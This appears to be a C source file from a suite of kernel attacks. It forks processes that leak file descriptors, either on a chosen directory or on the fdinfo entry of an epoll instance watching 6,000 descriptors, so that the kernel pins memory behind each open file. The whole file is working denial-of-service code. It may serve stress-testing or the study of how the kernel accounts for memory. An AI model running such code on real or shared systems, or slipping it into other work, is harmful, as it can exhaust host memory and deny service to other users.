// I-66: open files behind which the kernel keeps more than the file: argv[1] processes with argv[2] each, for argv[3] milliseconds. Of the folder argv[4],
// which was read from; without it of the list of an epoll that watches 6,000 times, which is a text of half a megabyte.
#include "attack.h"

#include <sys/epoll.h>

static const char *folder;

static bool folders(long n) {
        char entries[300];

        for (long i = 0; i < n; i++) {
                int fd = open(folder, O_RDONLY | O_DIRECTORY);

                if (fd < 0 || syscall(SYS_getdents64, fd, entries, sizeof entries) < 0)
                        return false;
        }
        return true;
}

static bool lists(long n) {
        int e = epoll_create1(0), p[2];
        char path[64], b;

        for (int i = 0; i < 50; i++) {
                if (pipe(p) < 0 || close(p[1]) < 0)
                        return false;
                for (int nr = 0; nr < 120; nr++) {
                        struct epoll_event ev = {.events = EPOLLIN | EPOLLET};
                        int fd = dup2(p[0], 120 + nr);

                        if (fd < 0 || epoll_ctl(e, EPOLL_CTL_ADD, fd, &ev) < 0)
                                return false;
                        close(fd);
                }
        }
        snprintf(path, sizeof path, "/proc/self/fdinfo/%d", e);
        for (long i = 0; i < n; i++) {
                int fd = open(path, O_RDONLY);

                if (fd < 0 || read(fd, &b, 1) != 1)
                        return false;
        }
        return true;
}

int main(int argc, char **argv) {
        folder = argc > 4 ? argv[4] : NULL;
        held_by_children(argc, argv, folder ? folders : lists, folder ? "folders" : "lists");
}
